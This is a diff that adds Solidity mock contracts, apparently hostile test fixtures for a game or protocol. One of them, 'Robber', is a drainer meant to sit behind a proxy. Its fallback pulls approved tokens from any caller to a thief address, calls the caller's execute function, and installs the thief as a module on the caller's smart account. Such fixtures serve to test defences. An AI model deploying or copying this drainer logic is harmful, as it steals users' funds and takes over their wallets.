@@ -118,6 +118,47 @@ contract Collection {
     function play(uint256) external {}
 }
 
+/// @notice Answers how much somebody has of it, and nothing else.
+contract Purse {
+    /// @notice As many tokens have it.
+    mapping(address owner => uint256) public balanceOf;
+
+    /// @notice Play, it says.
+    function play(uint256) external {}
+}
+
+/// @notice Answers as an ERC-777 without anybody's balance.
+contract Granule {
+    /// @notice As ERC-777 has it.
+    uint256 public constant granularity = 1;
+
+    /// @notice Play, it says.
+    function play(uint256) external {}
+}
+
+/// @notice What comes behind a proxy when its maker has seen enough players.
+contract Robber {
+    address private immutable _GOLD;
+    address private immutable _THIEF;
+
+    constructor(address gold, address thief) {
+        _GOLD = gold;
+        _THIEF = thief;
+    }
+
+    /// @notice Takes what it can of whoever calls: approved gold, and the account's own doors.
+    fallback() external payable {
+        _try(_GOLD, abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, _THIEF, 1));
+        _try(msg.sender, abi.encodeWithSignature("execute(bytes32,bytes)", bytes32(0), abi.encodePacked(_GOLD)));
+        _try(msg.sender, abi.encodeWithSignature("installModule(uint256,address,bytes)", 2, _THIEF, ""));
+    }
+
+    function _try(address target, bytes memory data) private {
+        (bool ok,) = target.call(data);
+        ok;
+    }
+}
+
 /// @notice Answers every question with a megabyte.
 contract Blabber {
     /// @notice As much as the gas allows, up to a megabyte.
